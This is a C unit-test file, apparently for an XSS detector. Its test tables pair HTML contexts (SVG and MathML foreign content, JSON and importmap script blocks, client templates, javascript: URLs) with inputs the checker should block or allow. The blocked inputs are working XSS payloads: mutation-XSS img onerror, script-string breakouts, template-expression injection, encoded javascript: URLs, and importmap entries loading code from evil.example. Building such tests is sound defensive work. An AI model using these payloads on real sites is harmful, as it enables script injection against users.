/* xss18 (session 30): three contexts the check read other than a browser.
 *
 * Foreign content by namespace: an integration point is one only in its
 * own namespace (SVG's foreignObject, desc and title; MathML's mi, mo, mn,
 * ms, mtext and an annotation-xml whose encoding is text/html or
 * application/xhtml+xml). <math><title>, <svg><mtext>, <math><svg> (an
 * element named svg in MathML's namespace) and a MathML text integration
 * point's <mglyph> are foreign: a <style>, <textarea>, <xmp> ... there is
 * an element of markup, and an input's <img onerror> in it is live (the
 * mutation-XSS shape). SVG's <script> runs its text as JavaScript (in a
 * CDATA section too): an input that leaves a string there is script.
 *
 * <script> elements whose type is not JavaScript: a JSON data block
 * (application/json, application/ld+json, importmap, speculationrules)
 * runs nothing, an input that stays inside one of its strings is data; a
 * client template (text/template, text/x-handlebars-template ...) is
 * rendered as HTML by the page's template engine, its text is judged as
 * markup and an input that brings template delimiters ({{ <% ${) fires.
 *
 * javascript: URLs whose body is only a comment: a browser runs nothing
 * for javascript:// (no line break in any form after it). */
#include "agent_xss_test.h"

static void markup_inside_a_foreign_raw_text_element_fires(void **state)
{
	static const char *const pages[][3] = {
	    {"<svg><mtext><style>", "<img src=x onerror=alert(1)>", "</style></mtext></svg>"},
	    {"<svg><mi><textarea>", "<img src=1 onerror=confirm(2)>", "</textarea></mi></svg>"},
	    {"<math><title><style>", "<img src onerror=prompt(3)>", "</style></title></math>"},
	    {"<math><desc><xmp>", "<IMG SRC=x ONERROR=alert(4)>", "</xmp></desc></math>"},
	    {"<math><foreignObject><noscript>", "<img src=x onerror=alert(5)>",
	     "</noscript></foreignObject></math>"},
	    {"<math><mi><mglyph><style>", "<img src=x onerror=alert(6)>",
	     "</style></mglyph></mi></math>"},
	    {"<math><svg><foreignObject><style>", "<img src=x onerror=alert(7)>",
	     "</style></foreignObject></svg></math>"},
	    {"<svg><math><mi><title>", "<img src=x onerror=alert(8)>",
	     "</title></mi></math></svg>"},
	    {"<div><math><mo><svg><mtext><iframe>", "<p><img src=x onerror=alert(9)></p>",
	     "</iframe></mtext></svg></mo></math></div>"},
	};

	(void)state;
	xss_pages_give(pages, sizeof pages / sizeof pages[0], MOAT_BLOCK);
}

/* The twins: raw text where the namespace makes an integration point. */
static void markup_inside_raw_text_of_an_integration_point_is_data(void **state)
{
	static const char *const pages[][3] = {
	    {"<svg><foreignObject><style>", "<img src=x onerror=alert(1)>",
	     "</style></foreignObject></svg>"},
	    {"<math><annotation-xml encoding=\"text/html\"><style>", "<img src=x onerror=alert(1)>",
	     "</style></annotation-xml></math>"},
	    {"<math><annotation-xml encoding=\"Application/XHTML+XML\"><textarea>",
	     "<b onmouseover=alert(2)>hi</b>", "</textarea></annotation-xml></math>"},
	    {"<math><annotation-xml encoding='text/html'><svg><desc><xmp>",
	     "<script>alert(3)</script>", "</xmp></desc></svg></annotation-xml></math>"},
	    {"<math><mtext><textarea>", "<img src=x onerror=alert(4)>",
	     "</textarea></mtext></math>"},
	    /* a user's title for a chart, a label in a formula */
	    {"<svg role=\"img\"><title>", "Tom & Jerry <3 our sales",
	     "</title><circle r=\"4\"/></svg>"},
	    {"<svg><desc>", "Umsatz \"Q3\" < Ziel, laut O'Brien", "</desc></svg>"},
	    {"<math><mi>", "x < y", "</mi></math>"},
	    {"<svg><text x=\"1\" y=\"9\">", "Ana's graph, 1 < 2", "</text></svg>"},
	};

	(void)state;
	xss_pages_give(pages, sizeof pages / sizeof pages[0], MOAT_ALLOW);
}

static void an_input_that_leaves_a_string_of_an_svg_script_fires(void **state)
{
	static const char *const pages[][3] = {
	    {"<svg><script>var q = \"", "\";alert(1)//", "\";</script></svg>"},
	    {"<svg><script>var q = '", "&apos;;alert(2)//", "';</script></svg>"},
	    {"<svg><script type=\"text/ecmascript\">var n = ", "1;confirm(3)", ";</script></svg>"},
	    {"<svg><style>.a{color:", "red} *{x:expression(alert(4))}", "}</style></svg>"},
	    /* a CDATA section, the SVG script's usual wrapping */
	    {"<svg><script><![CDATA[ var q = \"", "\";alert(5)//", "\"; ]]></script></svg>"},
	    {"<svg><script>//<![CDATA[\nlet who = '", "'+confirm(6)+'", "';\n//]]></script></svg>"},
	};

	(void)state;
	xss_pages_give(pages, sizeof pages / sizeof pages[0], MOAT_BLOCK);
}

static void text_inside_a_string_of_an_svg_script_is_data(void **state)
{
	static const char *const pages[][3] = {
	    {"<svg><script>var q = \"", "Hello world", "\";</script></svg>"},
	    {"<svg><script>var label = '", "Ventas del año", "';</script></svg>"},
	    {"<svg><style>.a{color:", "navy", "}</style></svg>"},
	    {"<svg><script><![CDATA[ var q = \"", "Grafik für Mai", "\"; ]]></script></svg>"},
	};

	(void)state;
	xss_pages_give(pages, sizeof pages / sizeof pages[0], MOAT_ALLOW);
}

/* A data block is not run; an input that ends its element, moves its end
 * or leaves its JSON string still fires. */
static void an_input_that_ends_or_leaves_a_json_block_fires(void **state)
{
	static const char *const pages[][3] = {
	    {"<script type=\"application/ld+json\">{\"name\": \"",
	     "</script><img src=x onerror=alert(1)>", "\"}</script>"},
	    {"<script type=\"application/json\" id=\"state\">{\"q\": \"",
	     "</SCRIPT ><script>alert(2)</script>", "\"}</script>"},
	    {"<script type=\"application/ld+json\">{\"name\": \"", "<!--<script>",
	     "\"}</script><p>after</p>"},
	    {"<script type=application/json>{\"user\": \"", "x\", \"isAdmin\": true, \"y\": \"",
	     "\"}</script>"},
	    {"<script type=\"importmap\">{\"imports\": {\"app\": \"",
	     "x\", \"lodash\": \"//evil.example/l.js", "\"}}</script>"},
	    {"<script type=\"importmap\">{\"imports\": {\"app\": \"", "https://evil.example/app.js",
	     "\"}}</script>"},
	    /* a trailing backslash escapes the page's quote: the block's next
	     * value is read by where the input ended */
	    {"<script type=\"application/json\">{\"first\": \"", "Ann\\",
	     "\", \"role\": \"user\"}</script>"},
	};

	(void)state;
	xss_pages_give(pages, sizeof pages / sizeof pages[0], MOAT_BLOCK);
}

static void text_inside_a_json_string_of_a_data_block_is_data(void **state)
{
	static const char *const pages[][3] = {
	    {"<script type=\"application/ld+json\">{\"@type\": \"Restaurant\", \"name\": \"",
	     "Café \\\"Le Chat\\\" & Co", "\"}</script>"},
	    {"<script type=\"application/ld+json\">{\"name\": \"", "O'Brien's pub: food; drinks",
	     "\"}</script>"},
	    {"<script type=\"application/ld+json\">{\"description\": \"",
	     "Best pizza (really!) in town, 5/5 = great", "\"}</script>"},
	    {"<script type=\"application/json\">{\"q\": \"", "a<b and c>d, alert(1) is a function",
	     "\"}</script>"},
	    {"<script type=\"Application/JSON\" id=\"s\">{\"url\": \"",
	     "https://shop.example/p?id=4&x=y", "\"}</script>"},
	    {"<script type=\"application/ld+json\">{\"ratingValue\": ", "4.5", "}</script>"},
	    {"<script type=\"importmap\">{\"imports\": {\"app\": \"", "/js/app.js?v=2.1",
	     "\"}}</script>"},
	};

	(void)state;
	xss_pages_give(pages, sizeof pages / sizeof pages[0], MOAT_ALLOW);
}

/* A client template is rendered as markup: judged as HTML, and template
 * delimiters an input brings are code (Underscore's <% %> runs
 * JavaScript, {{ }} is an expression of Vue, Angular, Handlebars). */
static void markup_or_template_code_in_a_client_template_fires(void **state)
{
	static const char *const pages[][3] = {
	    {"<script type=\"text/template\"><p>Hello ", "<img src=x onerror=alert(1)>",
	     "!</p></script>"},
	    {"<script type=\"text/x-handlebars-template\" id=\"t\"><a href=\"",
	     "javascript:alert(2)", "\">me</a></script>"},
	    {"<script type=\"text/template\"><p>Hello ", "<% alert(3) %>", "</p></script>"},
	    {"<script type=\"text/x-template\" id=\"card\"><h2>",
	     "{{constructor.constructor('alert(4)')()}}", "</h2></script>"},
	    {"<script type=\"text/ng-template\"><span title=\"", "\" onmouseover=\"alert(5)",
	     "\"></span></script>"},
	    {"<script type=\"text/x-jquery-tmpl\"><li>", "${alert(6)}", "</li></script>"},
	    {"<script type=\"text/template\"><p>", "</script><script>alert(7)</script>",
	     "</p></script>"},
	};

	(void)state;
	xss_pages_give(pages, sizeof pages / sizeof pages[0], MOAT_BLOCK);
}

static void a_user_name_in_a_client_template_is_data(void **state)
{
	static const char *const pages[][3] = {
	    {"<script type=\"text/template\"><p>Hello ", "Maria (admin)", "!</p></script>"},
	    {"<script type=\"text/x-handlebars-template\"><p>Hi ", "O'Neil", "</p></script>"},
	    {"<script type=\"text/template\"><p>Hello ", "Tom & Jerry <3", "!</p></script>"},
	    {"<script type=\"text/x-template\"><h2 title=\"", "Größe: 5 > 3", "\">x</h2></script>"},
	    {"<script type=\"text/html\" id=\"row\"><td>", "<b>bold</b> move", "</td></script>"},
	    /* inert attributes a quote lets in: HTML injection, no script */
	    {"<script type=\"text/template\"><p title=\"", "a\" class=\"wide\" data-user-id=\"7",
	     "\">x</p></script>"},
	    {"<script type=\"text/x-template\"><p title=\"", "b\" aria-label=\"Größe\" lang=\"de",
	     "\">x</p></script>"},
	};

	(void)state;
	xss_pages_give(pages, sizeof pages / sizeof pages[0], MOAT_ALLOW);
}

/* javascript: URLs after the attribute's and the URL parser's reading. */
static void a_javascript_url_whose_comment_a_line_break_ends_fires(void **state)
{
	static const char *const pages[][3] = {
	    {"<a href=\"", "javascript://%0aalert(1)", "\">x</a>"},
	    {"<a href=\"", "JavaScript://comment%0d%0aalert(document.domain)", "\">x</a>"},
	    {"<a href=\"", "javascript://&#10;alert(1)", "\">x</a>"},
	    {"<a href=\"", "javascript://&NewLine;confirm(1)", "\">x</a>"},
	    {"<a href=\"", "javascript://%E2%80%A8alert(1)", "\">x</a>"},
	    {"<a href=\"", "java&#x09;script://%0Aalert(1)", "\">x</a>"},
	    {"<a href=\"", "\x01\x02 javascript:alert(1)", "\">x</a>"},
	    {"<a href=\"", "javascript:/*x*/alert(1)", "\">x</a>"},
	    {"<a href=\"", "javascript:/*%2A/alert(1)//*/", "\">x</a>"},
	    {"<form><button formaction=\"", "javascript://%0aalert(1)", "\">go</button></form>"},
	    {"<form action=\"", "javascript:alert(1)", "\"><input type=submit></form>"},
	    {"<svg><a xlink:href=\"", "javascript:alert(1)", "\"><text>x</text></a></svg>"},
	    {"<object data=\"", "javascript:alert(1)", "\"></object>"},
	    {"<iframe src=\"", "javascript://%0d%0aalert(1)", "\"></iframe>"},
	    {"<math><maction actiontype=\"statusline\" xlink:href=\"", "javascript:alert(1)",
	     "\">x</maction></math>"},
	    {"<a href=", "javascript://%0aalert(1)", ">x</a>"},
	};

	(void)state;
	xss_pages_give(pages, sizeof pages / sizeof pages[0], MOAT_BLOCK);
}

static void a_javascript_url_that_is_only_a_comment_is_a_link(void **state)
{
	static const char *const pages[][3] = {
	    {"<a href=\"", "javascript://", "\">x</a>"},
	    {"<a href=\"", "javascript://nothing here", "\">x</a>"},
	    {"<a href=\"", "javascript:void(0)// no-op link", "\">x</a>"},
	    {"<a href=\"", "javascript:/* placeholder */", "\">x</a>"},
	    {"<a href='", "javascript:;//", "'>x</a>"},
	};

	(void)state;
	xss_pages_give(pages, sizeof pages / sizeof pages[0], MOAT_ALLOW);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(markup_inside_a_foreign_raw_text_element_fires),
	    cmocka_unit_test(markup_inside_raw_text_of_an_integration_point_is_data),
	    cmocka_unit_test(an_input_that_leaves_a_string_of_an_svg_script_fires),
	    cmocka_unit_test(text_inside_a_string_of_an_svg_script_is_data),
	    cmocka_unit_test(an_input_that_ends_or_leaves_a_json_block_fires),
	    cmocka_unit_test(text_inside_a_json_string_of_a_data_block_is_data),
	    cmocka_unit_test(markup_or_template_code_in_a_client_template_fires),
	    cmocka_unit_test(a_user_name_in_a_client_template_is_data),
	    cmocka_unit_test(a_javascript_url_whose_comment_a_line_break_ends_fires),
	    cmocka_unit_test(a_javascript_url_that_is_only_a_comment_is_a_link),
	};

	return cmocka_run_group_tests(tests, group_setup, group_teardown);
}
